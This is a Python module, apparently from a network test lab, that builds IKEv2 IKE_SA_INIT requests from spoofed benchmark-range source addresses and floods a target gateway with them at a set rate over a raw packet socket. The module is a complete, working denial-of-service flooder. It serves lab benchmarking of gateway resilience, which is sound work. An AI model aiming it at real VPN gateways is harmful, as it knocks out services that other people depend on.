"""IKE_SA_INIT requests from addresses that are not the sender's, at a rate: what a gateway meets that somebody wants to tire.

Run as a program this is the flooder: it prepares a frame for every request (each from another address, with an SPI, a nonce and a public
value of its own), says `ready`, waits for a line on standard input, sends for some seconds, and says how many left, in how
many seconds. The frames go out through a packet socket: the host's own addresses and routes have no part in it.
"""

import os
import random
import socket
import struct
import sys
import time

from .processes import Process

#: Whence the requests come: addresses for benchmarks (RFC 2544), which nobody has.
SOURCES, SOURCE_COUNT = int.from_bytes(socket.inet_aton("198.18.0.0"), "big"), 1 << 17
#: Frames sent between two looks at the clock: 2 ms at 10,000 a second.
BURST = 20
#: AES-256-GCM, PRF HMAC-SHA-384, ECP-384: the first proposal of the lab's gateways, and the costliest of theirs.
TRANSFORMS = ((1, 20, 256), (2, 6, None), (4, 20, None))
#: The generator of the curve: a public value that is a point of it, which a random one is not (RFC 5903 §3.2).
ECP384_POINT = bytes.fromhex(
    "aa87ca22be8b05378eb1c71ef320ad746e1d3b628ba79b9859f741e082542a385502f25dbf55296c3a545e3872760ab7"
    "3617de4a96262c6f5d9e98bf9292dc29f8f41dbd289a147ce9da3113b5f0b8c00a60b1ce1d7e819d7a431d7c90ea0e5f")
IKE_HEADER = struct.Struct("!QQBBBBII")


def request(source):
    """An IKE_SA_INIT request that the gateway would accept: SA, KE, Ni."""
    transforms = b""
    for index, (kind, number, bits) in enumerate(TRANSFORMS):
        attribute = struct.pack("!HH", 0x800E, bits) if bits else b""
        transforms += struct.pack("!BBHBBH", 0 if index == len(TRANSFORMS) - 1 else 3, 0, 8 + len(attribute), kind, 0, number) + attribute
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, len(TRANSFORMS)) + transforms
    body = _payload(34, proposal) + _payload(40, struct.pack("!HH", 20, 0) + ECP384_POINT) + _payload(0, source.randbytes(32))
    return IKE_HEADER.pack(source.getrandbits(64) | 1, 0, 33, 0x20, 34, 0x08, 0, 28 + len(body)) + body


def _payload(following, body):
    return struct.pack("!BBH", following, 0, 4 + len(body)) + body


def frame(sender, receiver, address, target, source):
    """The request as an Ethernet frame, to one port or the other; the UDP checksum is left out, as IPv4 allows."""
    port, marker = source.choice(((500, b""), (4500, b"\0\0\0\0")))
    message = marker + request(source)
    datagram = struct.pack("!HHHH", port, port, 8 + len(message), 0) + message
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(datagram), 0, 0, 64, 17, 0, address.to_bytes(4, "big"), target)
    total = sum(struct.unpack("!10H", header))
    total = (total & 0xFFFF) + (total >> 16)
    checksum = ~(total + (total >> 16)) & 0xFFFF
    return receiver + sender + b"\x08\x00" + header[:10] + struct.pack("!H", checksum) + header[12:] + datagram


def main(arguments):
    interface, sender, receiver, target, rate, seconds, seed = arguments
    rate, seconds, source = float(rate), float(seconds), random.Random(int(seed))
    sender, receiver, target = bytes.fromhex(sender), bytes.fromhex(receiver), socket.inet_aton(target)
    frames = [
        frame(sender, receiver, SOURCES + source.randrange(SOURCE_COUNT), target, source) for _ in range(int(rate * seconds))]
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as out:
        out.bind((interface, 0))
        print("ready", flush=True)
        sys.stdin.readline()
        sent, refused, start = 0, 0, time.monotonic()
        while sent < len(frames) and time.monotonic() < start + seconds + 1:
            due = min(len(frames), int((time.monotonic() - start) * rate) + BURST)
            for packet in frames[sent:due]:
                try:
                    out.send(packet)
                except OSError:
                    refused += 1
            sent = max(sent, due)
            time.sleep(BURST / rate / 2)
        print(f"sent {sent - refused} in {time.monotonic() - start:.3f}", flush=True)


class Flood:
    """A flooder in a namespace, prepared."""

    def __init__(self, network, host, receiver, target, rate, seconds, seed=1):
        self._process = Process(
            "flood", [
                sys.executable, "-m", "tandemlab.flood", "eth0", network.hardware_address(host, "eth0").hex(), receiver.hex(), target, rate,
                seconds, seed,
            ], network=network.name(host), environment={"PYTHONPATH": os.path.dirname(os.path.dirname(os.path.abspath(__file__)))})
        self._process.wait_for("^ready", timeout=60)

    def start(self):
        self._process.tell("go")

    @property
    def runs(self):
        return self._process.alive

    def end(self, timeout=30):
        """(requests sent, seconds)."""
        _, line = self._process.wait_for(r"^sent", timeout)
        self._process.end()
        _, count, _, seconds = line.split()
        return int(count), float(seconds)

    def stop(self):
        self._process.end()


if __name__ == "__main__":
    main(sys.argv[1:])
